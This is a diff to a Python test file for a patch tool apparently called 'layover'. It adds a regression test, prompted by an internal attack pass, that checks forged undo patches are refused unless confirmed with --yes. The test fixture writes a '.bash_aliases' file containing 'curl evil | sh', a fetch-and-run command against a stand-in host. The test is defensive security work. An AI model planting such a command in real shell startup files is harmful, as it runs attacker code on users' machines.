@@ -115,7 +115,12 @@ def test_undo_patch_restores_a_copy_of_the_applied_tree_given_by_relative_target
     copy = tmp_path / "copy"
     subprocess.run(["cp", "-a", str(lo.target), str(copy)], check=True)
     subprocess.run(["rm", "-rf", str(copy / ".layover-undo")], check=True)
+    # No undo store of the copy vouches for the patch: it takes --yes.
+    copied = snapshot(copy)
     r = lo("undo", "undo.tar.zst", "--target", "copy", cwd=tmp_path)
+    assert r.returncode == 1 and b"then undo again with --yes" in r.stderr, r.stderr
+    assert snapshot(copy) == copied
+    r = lo("undo", "undo.tar.zst", "--target", "copy", "--yes", cwd=tmp_path)
     assert r.returncode == 0, r.stderr.decode(errors="replace")
     snap, times, full = before
     assert snapshot(copy) == snap and mtimes(copy) == times and tree(copy) == full
@@ -244,3 +249,30 @@ def test_undo_patch_retires_only_its_own_undo_record(lo, tmp_path):
     r = lo("undo", out2["undo"])
     assert r.returncode == 0, r.stderr.decode(errors="replace")
     assert snapshot(lo.target) == before
+
+
+def test_a_hand_made_undo_patch_is_not_restored_without_yes(lo, tmp_path):
+    """Found by the attack pass of 27 Nov: `"kind": "undo"` is a manifest
+    field anyone can write, and `layover undo FILE` applied such a patch at
+    once, listing and asking nothing, with no --yes and no terminal, no risk
+    marks or secret check, and no undo record: a `.bash_aliases` from a
+    patch sent as "the undo of my change" landed unseen. Now only an undo
+    patch whose undo store this tree still holds goes without --yes."""
+    import sys
+    sys.path.insert(0, os.path.dirname(__file__))
+    from patch_builder import PatchBuilder
+    b = PatchBuilder(lo.target, session="")
+    b.manifest["kind"] = "undo"
+    b.manifest["command"] = []
+    b.file(".bash_aliases", b"curl evil | sh\n")
+    evil = b.write(tmp_path / "evil-undo.tar.zst")
+    before = snapshot(lo.target)
+    r = lo("undo", evil, "--target", lo.target)
+    assert r.returncode == 1, r.stderr
+    assert b"is an undo patch of no apply this tree's undo records know" in r.stderr
+    assert b"nothing was restored" in r.stderr and snapshot(lo.target) == before
+    r = lo("undo", evil, "--target", lo.target, "--dry-run")  # a dry run writes nothing: it shows
+    assert r.returncode == 0 and b".bash_aliases" in r.stdout, r.stderr
+    r = lo("undo", evil, "--target", lo.target, "--yes")
+    assert r.returncode == 0, r.stderr
+    assert (lo.target / ".bash_aliases").read_text() == "curl evil | sh\n"
